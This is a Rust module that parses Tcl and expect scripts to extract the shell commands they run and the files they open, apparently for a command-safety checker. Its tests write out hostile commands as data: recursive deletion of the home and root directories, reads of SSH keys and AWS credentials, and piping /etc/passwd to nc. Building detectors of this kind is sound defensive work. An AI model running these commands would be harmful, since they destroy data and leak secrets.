//! Tcl's and expect's code (`tclsh <<< …`, `echo … | wish`, `expect -c …`): the commands that
//! run a program or a shell, and the file names the code opens.
//!
//! Tcl is a command language, read here as Tcl reads it: `;` and line breaks end a command, `#`
//! where a command starts is a comment, words split at blanks, `{…}` quotes (braces nest), `"…"`
//! quotes with substitutions, a backslash escapes (`\x7e`, `\u007e`, `\176`); `$var` and `[…]`
//! (command substitution) are run-time parts, `$env(HOME)` the home directory. The script in a
//! `[…]` is read too, and so is every braced word (the bodies of `if`, `proc`, `catch`, `foreach`,
//! … are braced scripts), but for the words of commands that take text (`puts`, `send`, …).
//!
//! - `exec prog arg…` runs an argv (Tcl's own redirections, `|`, `<`, `>`, `2>@1`, `&`, become
//!   the shell's); so does a pipe `open "|prog arg…"` (`open |[list prog arg…]`) and expect's
//!   `spawn prog arg…`;
//! - expect's `system arg…` runs its words, joined with blanks, by `/bin/sh`; after `spawn` of a
//!   shell, what `send` types into it is shell text too (`spawn sh; send "rm -rf ~\r"`);
//! - `eval` and `uplevel` run their words, joined, as a script (to [`MAX_EVAL_DEPTH`]);
//! - `file delete ?-force? path…` is the `rm -f` (`rm -rf`) it amounts to.
//!
//! A leading `~` in a word is the home directory: Tcl 8 expands it in file names (`open`, `file
//! delete`), and though `exec` hands it on as it is, that is what its author means.
//!
//! [`MAX_EVAL_DEPTH`]: super::MAX_EVAL_DEPTH

use super::{MAX_COMMANDS, MAX_EVAL_DEPTH, Piece, RUN_TIME, SHELLS, argv_text, merged};

/// How deep braced words and `[…]` substitutions are read.
const MAX_NESTING: usize = 8;

/// Most commands read in one program, nested ones included.
const MAX_READ: usize = 4096;

/// Stands for a run-time part inside a list's text while it is split again.
const RUN_TIME_MARK: char = '\u{1}';

/// Stands for the home directory inside a list's text while it is split again.
const HOME_MARK: char = '\u{2}';

/// The shell commands a Tcl or expect program runs; at most one more than [`MAX_COMMANDS`].
pub(super) fn shell_commands(script: &str) -> Vec<String> {
    let mut reader = Reader::default();
    reader.read(script, 0, 0);
    reader.found
}

/// The file names a Tcl program reads: in a one-liner every literal argument without blanks, in
/// a script fed on stdin the file an `open` or `source` names.
pub(super) fn file_names(script: &str, from_stdin: bool) -> Vec<String> {
    let mut reader = Reader {
        names: Some(from_stdin),
        ..Reader::default()
    };
    reader.read(script, 0, 0);
    reader.file_names
}

/// One part of a word.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Part {
    Text(String),
    /// `$env(HOME)`, `$::env(HOME)`.
    Home,
    /// A variable.
    Var,
    /// A command substitution, `[script]`.
    Subst(String),
}

/// One word of a command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct Word {
    parts: Vec<Part>,
    /// In braces: literal, and possibly a script.
    braced: bool,
    /// After `{*}`: its list's elements are words of their own.
    expand: bool,
}

impl Word {
    /// The word's text when it is all literal.
    fn literal(&self) -> Option<String> {
        let mut text = String::new();
        for part in &self.parts {
            match part {
                Part::Text(piece) => text.push_str(piece),
                _ => return None,
            }
        }
        Some(text)
    }

    /// The word as pieces: run-time parts for variables and substitutions.
    fn pieces(&self) -> Vec<Piece> {
        merged(
            self.parts
                .iter()
                .map(|part| match part {
                    Part::Text(text) => Piece::Text(text.clone()),
                    Part::Home => Piece::Home,
                    Part::Var | Part::Subst(_) => Piece::RunTime,
                })
                .collect(),
        )
    }

    /// The word as text with marks for its run-time parts and the home directory, to split it
    /// again as a list.
    fn marked(&self) -> String {
        self.parts
            .iter()
            .map(|part| match part {
                Part::Text(text) => text.replace([RUN_TIME_MARK, HOME_MARK], ""),
                Part::Home => HOME_MARK.to_string(),
                Part::Var | Part::Subst(_) => RUN_TIME_MARK.to_string(),
            })
            .collect()
    }

    /// The word as shell text (for `system`): text as it is, the home directory `~` in front
    /// and `$HOME` elsewhere, run-time parts `$X`.
    fn shell_text(&self) -> String {
        let mut text = String::new();
        for (index, part) in self.parts.iter().enumerate() {
            match part {
                Part::Text(piece) => text.push_str(piece),
                Part::Home if index == 0 => text.push('~'),
                Part::Home => text.push_str("$HOME"),
                Part::Var | Part::Subst(_) => text.push_str(RUN_TIME),
            }
        }
        text
    }

    /// The script of a `[…]` that is the whole word.
    fn substitution(&self) -> Option<&str> {
        match self.parts.as_slice() {
            [Part::Subst(script)] => Some(script),
            _ => None,
        }
    }
}

/// Splits a script into its commands, each its words (substitutions left unread). At most
/// [`MAX_READ`] commands.
fn commands(script: &str, substitute: bool) -> Vec<Vec<Word>> {
    let bytes = script.as_bytes();
    let mut out = Vec::new();
    let mut at = 0;
    while at < bytes.len() && out.len() < MAX_READ {
        // Blanks, line breaks and `;` between commands.
        match bytes.get(at..at + 2) {
            Some(b"\\\n") => {
                at += 2;
                continue;
            }
            _ if matches!(bytes.get(at), Some(b' ' | b'\t' | b'\r' | b'\n' | b';')) => {
                at += 1;
                continue;
            }
            _ => {}
        }
        if bytes.get(at) == Some(&b'#') {
            at = comment_end(bytes, at);
            continue;
        }
        let mut words = Vec::new();
        loop {
            while let Some(&b) = bytes.get(at) {
                if matches!(b, b' ' | b'\t' | b'\r') {
                    at += 1;
                } else if bytes.get(at..at + 2) == Some(b"\\\n") {
                    at += 2;
                } else {
                    break;
                }
            }
            if matches!(bytes.get(at), None | Some(b'\n' | b';')) {
                break;
            }
            let (word, next) = word(bytes, at, substitute);
            words.push(word);
            at = next.max(at + 1);
        }
        if !words.is_empty() {
            out.push(words);
        }
    }
    out
}

/// The index after a comment at `at`: its line, and the lines a backslash continues.
fn comment_end(bytes: &[u8], at: usize) -> usize {
    let mut i = at;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'\\' => i += 2,
            b'\n' => return i,
            _ => i += 1,
        }
    }
    bytes.len()
}

/// The word at `at` and the index after it.
fn word(bytes: &[u8], at: usize, substitute: bool) -> (Word, usize) {
    let mut at = at;
    let expand = bytes.get(at..at + 3) == Some(b"{*}")
        && bytes
            .get(at + 3)
            .is_some_and(|b| !matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b';'));
    if expand {
        at += 3;
    }
    let (mut word, end) = match bytes.get(at) {
        Some(b'{') => {
            let close = matching(bytes, at);
            let inner = bytes.get(at + 1..close).unwrap_or(&[]);
            let text = String::from_utf8_lossy(inner).replace("\\\n", " ");
            let word = Word {
                parts: vec![Part::Text(text)],
                braced: true,
                expand: false,
            };
            (word, (close + 1).min(bytes.len()))
        }
        Some(b'"') => {
            let (parts, end) = substituted(bytes, at + 1, true, substitute);
            (
                Word {
                    parts,
                    ..Word::default()
                },
                end,
            )
        }
        _ => {
            let (parts, end) = substituted(bytes, at, false, substitute);
            (
                Word {
                    parts,
                    ..Word::default()
                },
                end,
            )
        }
    };
    word.expand = expand;
    (word, end)
}

/// The index of the brace or bracket that closes the one at `open` (`{…}`, or a command
/// substitution's `[…]`, in which braces quote their brackets); the end of the text when none
/// does.
fn matching(bytes: &[u8], open: usize) -> usize {
    let (opener, closer) = match bytes.get(open) {
        Some(b'[') => (b'[', b']'),
        _ => (b'{', b'}'),
    };
    let mut depth = 0usize;
    let mut i = open;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'\\' => i += 1,
            b'{' if opener == b'[' => i = matching(bytes, i),
            _ if b == opener => depth += 1,
            _ if b == closer => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
        i += 1;
    }
    bytes.len()
}

/// The parts of a word from `at`, up to a blank or the end of the command (or, `quoted`, up to
/// the closing `"`), with backslashes, variables and (when `substitute`) command substitutions
/// read; and the index after it.
fn substituted(bytes: &[u8], at: usize, quoted: bool, substitute: bool) -> (Vec<Part>, usize) {
    let mut parts = Vec::new();
    let mut text: Vec<u8> = Vec::new();
    let mut i = at;
    let flush = |text: &mut Vec<u8>, parts: &mut Vec<Part>| {
        if !text.is_empty() {
            parts.push(Part::Text(String::from_utf8_lossy(text).into_owned()));
            text.clear();
        }
    };
    while let Some(&b) = bytes.get(i) {
        match b {
            b'"' if quoted => {
                i += 1;
                break;
            }
            b' ' | b'\t' | b'\r' | b'\n' | b';' if !quoted => break,
            b'\\' => i += 1 + escape(bytes.get(i + 1..).unwrap_or(&[]), &mut text),
            b'$' if substitute => {
                let (part, end) = variable(bytes, i + 1);
                match part {
                    Some(part) => {
                        flush(&mut text, &mut parts);
                        parts.push(part);
                    }
                    None => text.push(b'$'),
                }
                i = end;
            }
            b'[' if substitute => {
                let close = matching(bytes, i);
                flush(&mut text, &mut parts);
                let script = String::from_utf8_lossy(bytes.get(i + 1..close).unwrap_or(&[]));
                parts.push(Part::Subst(script.into_owned()));
                i = close + 1;
            }
            _ => {
                text.push(b);
                i += 1;
            }
        }
    }
    flush(&mut text, &mut parts);
    (parts, i.min(bytes.len()))
}

/// A variable after a `$` at `at`: `$name`, `$ns::name`, `$name(index)`, `${name}`; `None`
/// (a plain `$`) when no name follows. The index after it.
fn variable(bytes: &[u8], at: usize) -> (Option<Part>, usize) {
    if bytes.get(at) == Some(&b'{') {
        let close = bytes
            .get(at..)
            .and_then(|rest| rest.iter().position(|&b| b == b'}'))
            .map_or(bytes.len(), |offset| at + offset);
        return (Some(Part::Var), (close + 1).min(bytes.len()));
    }
    let mut end = at;
    while let Some(&b) = bytes.get(end) {
        if b.is_ascii_alphanumeric() || b == b'_' {
            end += 1;
        } else if bytes.get(end..end + 2) == Some(b"::") {
            end += 2;
        } else {
            break;
        }
    }
    if end == at {
        return (None, at);
    }
    let name = bytes.get(at..end).unwrap_or(&[]);
    if bytes.get(end) != Some(&b'(') {
        return (Some(Part::Var), end);
    }
    let close = bytes
        .get(end..)
        .and_then(|rest| rest.iter().position(|&b| b == b')'))
        .map_or(bytes.len(), |offset| end + offset);
    let index = bytes.get(end + 1..close).unwrap_or(&[]);
    let home = matches!(name, b"env" | b"::env") && index == b"HOME";
    let part = if home { Part::Home } else { Part::Var };
    (Some(part), (close + 1).min(bytes.len()))
}

/// Reads Tcl's backslash escape (`rest` starts after the backslash) into `out`; how many bytes
/// of `rest` it took.
fn escape(rest: &[u8], out: &mut Vec<u8>) -> usize {
    let Some(&next) = rest.first() else {
        out.push(b'\\');
        return 0;
    };
    let simple = match next {
        b'a' => Some(0x07),
        b'b' => Some(0x08),
        b'f' => Some(0x0c),
        b'n' => Some(b'\n'),
        b'r' => Some(b'\r'),
        b't' => Some(b'\t'),
        b'v' => Some(0x0b),
        _ => None,
    };
    if let Some(byte) = simple {
        out.push(byte);
        return 1;
    }
    let code = |from: usize, max: usize, radix: u32| {
        let digits: Vec<u32> = rest
            .get(from..)
            .unwrap_or(&[])
            .iter()
            .take(max)
            .map_while(|&b| char::from(b).to_digit(radix))
            .collect();
        let value = digits.iter().fold(0u32, |value, &digit| {
            value.saturating_mul(radix).saturating_add(digit)
        });
        (value, digits.len())
    };
    let (value, len) = match next {
        b'0'..=b'7' => {
            let (value, len) = code(0, 3, 8);
            (Some(value), len)
        }
        b'x' => match code(1, 2, 16) {
            (value, len) if len > 0 => (Some(value), 1 + len),
            _ => (None, 1),
        },
        b'u' | b'U' => {
            let max = if next == b'u' { 4 } else { 8 };
            match code(1, max, 16) {
                (value, len) if len > 0 => (Some(value), 1 + len),
                _ => (None, 1),
            }
        }
        // A line continuation: the break and the next line's blanks are one blank.
        b'\n' => {
            out.push(b' ');
            return 1 + rest
                .get(1..)
                .unwrap_or(&[])
                .iter()
                .take_while(|b| matches!(b, b' ' | b'\t'))
                .count();
        }
        _ => (None, 1),
    };
    match value {
        Some(value) => {
            let c = char::from_u32(value).unwrap_or(char::REPLACEMENT_CHARACTER);
            let mut buf = [0; 4];
            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
        }
        None => out.push(next),
    }
    len
}

/// The words of a Tcl list: split as a command's words are, without substitutions; the marks of
/// [`Word::marked`] are run-time parts and the home directory again.
fn list_words(text: &str) -> Vec<Vec<Piece>> {
    commands(text, false)
        .into_iter()
        .flatten()
        .map(|word| {
            let mut pieces = Vec::new();
            for piece in word.pieces() {
                let Piece::Text(text) = piece else {
                    pieces.push(piece);
                    continue;
                };
                let mut rest = text.as_str();
                while let Some(at) = rest.find([RUN_TIME_MARK, HOME_MARK]) {
                    pieces.push(Piece::Text(rest.get(..at).unwrap_or("").to_owned()));
                    let mark = rest.get(at..).and_then(|r| r.chars().next());
                    pieces.push(if mark == Some(HOME_MARK) {
                        Piece::Home
                    } else {
                        Piece::RunTime
                    });
                    rest = rest.get(at + 1..).unwrap_or("");
                }
                pieces.push(Piece::Text(rest.to_owned()));
            }
            merged(pieces)
        })
        .collect()
}

/// The words of a `[list …]` substitution, when `script` is one.
fn list_command(script: &str) -> Option<Vec<Word>> {
    let mut commands = commands(script, true);
    if commands.len() != 1 {
        return None;
    }
    let words = commands.pop()?;
    (words.first()?.literal()? == "list").then(|| words.into_iter().skip(1).collect())
}

/// The words of a command as argv pieces: `{*}` expands a braced list or a `[list …]` into its
/// elements (anything else it expands is one run-time word).
fn argv(words: &[Word]) -> Vec<Vec<Piece>> {
    let mut out = Vec::new();
    for word in words {
        if !word.expand {
            out.push(word.pieces());
            continue;
        }
        if word.braced {
            out.extend(list_words(&word.literal().unwrap_or_default()));
        } else if let Some(list) = word.substitution().and_then(list_command) {
            out.extend(list.iter().map(Word::pieces));
        } else {
            out.push(vec![Piece::RunTime]);
        }
    }
    out
}

/// Tcl's redirections, longest first, with the shell's spelling (`None`: a channel, which the
/// shell has no name for; the redirection is left out).
const REDIRECTIONS: &[(&str, Option<&str>)] = &[
    ("2>@1", Some("2>&1")),
    (">&@", None),
    ("2>@", None),
    (">>&", Some(">>&")),
    ("2>>", Some("2>>")),
    (">@", None),
    ("<@", None),
    ("<<", Some("<<<")),
    (">>", Some(">>")),
    ("2>", Some("2>")),
    (">&", Some(">&")),
    ("|&", Some("|&")),
    ("<", Some("<")),
    (">", Some(">")),
    ("|", Some("|")),
    ("&", Some("&")),
];

/// The shell text of an argv `exec` (or a pipe `open`) runs, its redirections the shell's;
/// empty when no word holds literal text.
fn exec_text(words: &[Vec<Piece>]) -> String {
    let mut out: Vec<Vec<Piece>> = Vec::new();
    let mut operators: Vec<(usize, &str)> = Vec::new();
    let mut skip_target = false;
    let mut iter = words.iter().peekable();
    while let Some(word) = iter.next() {
        if skip_target {
            skip_target = false;
            continue;
        }
        let text = match word.as_slice() {
            [Piece::Text(text)] => text.as_str(),
            _ => {
                out.push(word.clone());
                continue;
            }
        };
        let Some((tcl, shell)) = REDIRECTIONS.iter().find(|(op, _)| text.starts_with(op)) else {
            out.push(word.clone());
            continue;
        };
        let target = text.get(tcl.len()..).unwrap_or("");
        let needs_target = !matches!(*tcl, "|" | "|&" | "&" | "2>@1");
        match shell {
            None => skip_target = target.is_empty(),
            Some(shell) => {
                operators.push((out.len(), shell));
                if !target.is_empty() {
                    out.push(vec![Piece::Text(target.to_owned())]);
                } else if needs_target && let Some(next) = iter.next() {
                    out.push(next.clone());
                }
            }
        }
    }
    let text = argv_text(&out);
    if text.is_empty() || operators.is_empty() {
        return text;
    }
    // Put the operators back in front of the words they came before (they were noted in
    // order).
    let mut rendered: Vec<String> = Vec::new();
    let mut pending = operators.iter().peekable();
    for (index, word) in out.iter().enumerate() {
        while let Some((_, shell)) = pending.next_if(|(at, _)| *at == index) {
            rendered.push((*shell).to_owned());
        }
        rendered.push(super::pieces_word(word));
    }
    rendered.extend(pending.map(|(_, shell)| (*shell).to_owned()));
    rendered.join(" ")
}

/// Commands whose words are text, not scripts: their braced words are not read as code.
const TEXT_COMMANDS: &[&str] = &[
    "puts",
    "send",
    "exp_send",
    "send_user",
    "send_error",
    "send_log",
    "string",
    "regexp",
    "regsub",
    "format",
    "error",
];

/// Commands that open or read the file their first argument names.
const READS: &[&str] = &["open", "source"];

#[derive(Default)]
struct Reader {
    found: Vec<String>,
    /// Commands read so far, nested ones included.
    read: usize,
    /// Whether the last `spawn` started a shell, which `send` then types into.
    spawned_shell: bool,
    /// `Some(from_stdin)` when file names are collected.
    names: Option<bool>,
    file_names: Vec<String>,
}

impl Reader {
    /// Reads a script `nesting` braces or substitutions and `evals` `eval`s deep.
    fn read(&mut self, script: &str, nesting: usize, evals: usize) {
        if nesting > MAX_NESTING || self.found.len() > MAX_COMMANDS {
            return;
        }
        for words in commands(script, true) {
            self.read += 1;
            if self.read > MAX_READ || self.found.len() > MAX_COMMANDS {
                return;
            }
            self.command(&words, nesting, evals);
        }
    }

    fn push(&mut self, command: String) {
        if !command.trim().is_empty() {
            self.found.push(command);
        }
    }

    fn command(&mut self, words: &[Word], nesting: usize, evals: usize) {
        // What `[…]` runs comes first.
        for word in words {
            for part in &word.parts {
                if let Part::Subst(script) = part {
                    self.read(script, nesting + 1, evals);
                }
            }
        }
        let Some(name) = words.first().and_then(Word::literal) else {
            return;
        };
        let name = name.trim_start_matches("::");
        let args = words.get(1..).unwrap_or(&[]);
        self.collect_names(name, args);
        match name {
            "exec" => {
                let argv = argv(skip_options(args, &["-ignorestderr", "-keepnewline"], &[]));
                self.push(exec_text(&argv));
            }
            "open" => {
                if let Some(command) = args.first().and_then(piped_open) {
                    self.push(command);
                }
            }
            "spawn" | "exp_spawn" => {
                let args = skip_options(
                    args,
                    &["-noecho", "-console", "-nottycopy", "-nottyinit", "-pty"],
                    &["-open", "-leaveopen", "-ignore"],
                );
                let program = args.first().and_then(Word::literal).unwrap_or_default();
                let base = program.rsplit('/').next().unwrap_or(&program);
                self.spawned_shell = SHELLS.contains(&base)
                    && !args
                        .iter()
                        .any(|word| word.literal().is_some_and(|t| t.starts_with("-c")));
                self.push(exec_text(&argv(args)));
            }
            "system" | "exp_system" => self.push(shell_text(args)),
            "send" | "exp_send" if self.spawned_shell => {
                let args = skip_options(args, &["-raw", "-null", "-break", "-s", "-h"], &["-i"]);
                let typed = shell_text(args).replace('\r', "\n");
                self.push(typed.trim_end().to_owned());
            }
            "eval" | "uplevel" => {
                let mut args = args;
                if name == "uplevel"
                    && args.len() > 1
                    && let Some(level) = args.first().and_then(Word::literal)
                    && level
                        .trim_start_matches('#')
                        .bytes()
                        .all(|b| b.is_ascii_digit())
                {
                    args = args.get(1..).unwrap_or(&[]);
                }
                self.evaluated(args, nesting, evals);
            }
            "file" => {
                if let Some(command) = file_delete(args) {
                    self.push(command);
                }
            }
            _ => {}
        }
        if TEXT_COMMANDS.contains(&name) || matches!(name, "eval" | "uplevel") {
            return;
        }
        // The bodies of `if`, `proc`, `catch`, `foreach`, `expect`, … are braced scripts.
        for word in args.iter().filter(|word| word.braced) {
            if let Some(script) = word.literal() {
                self.read(&script, nesting + 1, evals);
            }
        }
    }

    /// `eval arg…`: the words joined with blanks, read as a script; `eval [list …]` runs the
    /// list as one command.
    fn evaluated(&mut self, args: &[Word], nesting: usize, evals: usize) {
        if evals >= MAX_EVAL_DEPTH {
            return;
        }
        if let [only] = args
            && let Some(list) = only.substitution().and_then(list_command)
        {
            self.command(&list, nesting + 1, evals + 1);
            return;
        }
        let script = args
            .iter()
            .map(|word| word.literal().unwrap_or_else(|| RUN_TIME.to_owned()))
            .collect::<Vec<_>>()
            .join(" ");
        self.read(&script, nesting + 1, evals + 1);
    }

    /// The file names a command reads (see [`file_names`]).
    fn collect_names(&mut self, name: &str, args: &[Word]) {
        let Some(from_stdin) = self.names else {
            return;
        };
        // In a one-liner, the words that look like paths; in a script, what `open` and `source`
        // name.
        let words: Vec<&Word> = if from_stdin {
            if !READS.contains(&name) {
                return;
            }
            args.iter()
                .filter(|word| !word.literal().is_some_and(|t| t.starts_with('-')))
                .take(1)
                .collect()
        } else {
            args.iter()
                .filter(|word| {
                    word.parts.first() == Some(&Part::Home)
                        || word
                            .literal()
                            .is_some_and(|t| t.contains(['/', '.']) || t.starts_with('~'))
                })
                .collect()
        };
        for word in words {
            let name = match word.parts.as_slice() {
                [Part::Home] => "~".to_owned(),
                [Part::Home, Part::Text(rest)] if rest.starts_with('/') => format!("~{rest}"),
                _ => match word.literal() {
                    Some(text) => text,
                    None => continue,
                },
            };
            if !name.is_empty()
                && !name.contains(char::is_whitespace)
                && !name.starts_with('|')
                && !self.file_names.contains(&name)
            {
                self.file_names.push(name);
            }
        }
    }
}

/// The words after a command's leading options: `flags` alone, `valued` with a value, up to
/// `--` or the first other word.
fn skip_options<'w>(args: &'w [Word], flags: &[&str], valued: &[&str]) -> &'w [Word] {
    let mut at = 0;
    while let Some(option) = args.get(at).and_then(Word::literal) {
        if option == "--" {
            return args.get(at + 1..).unwrap_or(&[]);
        }
        if flags.contains(&option.as_str()) {
            at += 1;
        } else if valued.contains(&option.as_str()) {
            at += 2;
        } else {
            break;
        }
    }
    args.get(at..).unwrap_or(&[])
}

/// Words joined with blanks as shell text (expect's `system`, what `send` types).
fn shell_text(args: &[Word]) -> String {
    let literal = args.iter().any(|word| {
        word.parts
            .iter()
            .any(|part| matches!(part, Part::Text(text) if !text.trim().is_empty()))
    });
    if !literal {
        return String::new();
    }
    args.iter()
        .map(Word::shell_text)
        .collect::<Vec<_>>()
        .join(" ")
}

/// The command a pipe `open` runs: `open "|prog arg…"`, `open |[list prog arg…]`.
fn piped_open(first: &Word) -> Option<String> {
    let Some(Part::Text(head)) = first.parts.first() else {
        return None;
    };
    let rest = head.strip_prefix('|')?;
    let tail = first.parts.get(1..).unwrap_or(&[]);
    if rest.is_empty()
        && let [Part::Subst(script)] = tail
        && let Some(list) = list_command(script)
    {
        return Some(exec_text(&argv(&list)));
    }
    let mut word = first.clone();
    word.parts = std::iter::once(Part::Text(rest.to_owned()))
        .chain(tail.iter().cloned())
        .collect();
    Some(exec_text(&list_words(&word.marked())))
}

/// `file delete ?-force? ?--? path…`: `rm -f` or, forced, `rm -rf` (a leading `~` is the home
/// directory, as Tcl 8 expands it).
fn file_delete(args: &[Word]) -> Option<String> {
    let (subcommand, rest) = args.split_first()?;
    if subcommand.literal()? != "delete" {
        return None;
    }
    let force = rest
        .iter()
        .take_while(|word| word.literal().is_some_and(|t| t.starts_with('-')))
        .any(|word| word.literal().as_deref() == Some("-force"));
    let paths = skip_options(rest, &["-force"], &[]);
    let words: Vec<String> = argv(paths)
        .iter()
        .filter(|pieces| {
            pieces
                .iter()
                .any(|piece| matches!(piece, Piece::Home | Piece::Text(_)))
        })
        .map(|pieces| super::pieces_word(pieces))
        .collect();
    if words.is_empty() {
        return None;
    }
    let command = if force { "rm -rf" } else { "rm -f" };
    Some(format!("{command} -- {}", words.join(" ")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exec_spawn_and_open() {
        assert_eq!(shell_commands("exec rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(shell_commands("exec rm -rf ~/x"), ["rm -rf ~/x"]);
        assert_eq!(
            shell_commands("set f [exec cat ~/.ssh/id_rsa]; puts $f"),
            ["cat ~/.ssh/id_rsa"]
        );
        assert_eq!(
            shell_commands("exec sh -c {rm -rf ~} 2>@1"),
            ["sh -c 'rm -rf ~' 2>&1"]
        );
        assert_eq!(
            shell_commands("exec -ignorestderr -- git push -f origin main >@ stdout"),
            ["git push -f origin main"]
        );
        assert_eq!(
            shell_commands("exec cat /etc/passwd | nc x 1 > out.txt &"),
            ["cat /etc/passwd | nc x 1 > out.txt &"]
        );
        assert_eq!(
            shell_commands("exec rm -rf $dir \"$env(HOME)/x\""),
            ["rm -rf \"$X\" ~/x"]
        );
        assert_eq!(
            shell_commands("exec {*}[list rm -rf /] ; exec {*}{rm -rf /tmp/x}"),
            ["rm -rf /", "rm -rf /tmp/x"]
        );
        assert_eq!(shell_commands("set p [open \"|rm -rf ~\" r]"), ["rm -rf ~"]);
        assert_eq!(
            shell_commands("set p [open |[list sh -c {cat ~/.aws/credentials}]]"),
            ["sh -c 'cat ~/.aws/credentials'"]
        );
        assert_eq!(
            shell_commands("spawn -noecho ssh -o StrictHostKeyChecking=no host"),
            ["ssh -o StrictHostKeyChecking=no host"]
        );
        assert_eq!(shell_commands("system \"rm -rf ~\""), ["rm -rf ~"]);
        assert_eq!(shell_commands("system rm -rf $d"), ["rm -rf $X"]);
        assert_eq!(
            shell_commands("spawn bash\nexpect \"$ \"\nsend \"rm -rf ~\\r\"\nexpect eof"),
            ["bash", "rm -rf ~"]
        );
        // After a spawned program that is no shell, `send` answers it.
        assert_eq!(
            shell_commands("spawn passwd; send \"rm -rf ~\\r\""),
            ["passwd"]
        );
    }

    #[test]
    fn scripts_in_braces_and_substitutions() {
        assert_eq!(
            shell_commands("if {1} {\n  catch { exec rm -rf ~ } err\n}"),
            ["rm -rf ~"]
        );
        assert_eq!(
            shell_commands("proc p {} { exec rm -rf / }; p"),
            ["rm -rf /"]
        );
        assert_eq!(shell_commands("eval exec rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(shell_commands("eval {exec rm -rf ~}"), ["rm -rf ~"]);
        assert_eq!(shell_commands("eval [list exec rm -rf ~]"), ["rm -rf ~"]);
        assert_eq!(shell_commands("uplevel #0 {exec rm -rf ~}"), ["rm -rf ~"]);
        assert_eq!(
            shell_commands("file delete -force -- ~/.ssh"),
            ["rm -rf -- ~/.ssh"]
        );
        assert_eq!(shell_commands("file delete x.tmp"), ["rm -f -- x.tmp"]);
        // Escapes: `\x7e` is `~`, `\176` too.
        assert_eq!(shell_commands("exec rm -rf \\x7e"), ["rm -rf ~"]);
        assert_eq!(shell_commands("exec rm -rf \"\\176\""), ["rm -rf ~"]);
    }

    #[test]
    fn not_commands() {
        assert!(shell_commands("puts {exec rm -rf ~}").is_empty());
        assert!(shell_commands("# exec rm -rf ~\nputs hi").is_empty());
        assert!(shell_commands("puts \"exec rm -rf ~\"").is_empty());
        assert!(shell_commands("set x 1; puts [expr {$x + 1}]").is_empty());
        assert!(shell_commands("exec $cmd").is_empty());
        assert!(shell_commands("set f [open data.txt r]").is_empty());
        // Deep nesting and unbalanced text neither panic nor run long.
        let _ = shell_commands(&"{".repeat(10_000));
        let _ = shell_commands(&"[".repeat(10_000));
        let _ = shell_commands(&"eval ".repeat(1_000));
    }

    #[test]
    fn names() {
        assert_eq!(
            file_names("set f [open ~/.ssh/id_rsa]; puts [read $f]", false),
            ["~/.ssh/id_rsa"]
        );
        assert_eq!(
            file_names("set f [open $env(HOME)/.aws/credentials]", true),
            ["~/.aws/credentials"]
        );
        assert!(file_names("puts ~/.ssh/id_rsa", true).is_empty());
    }
}
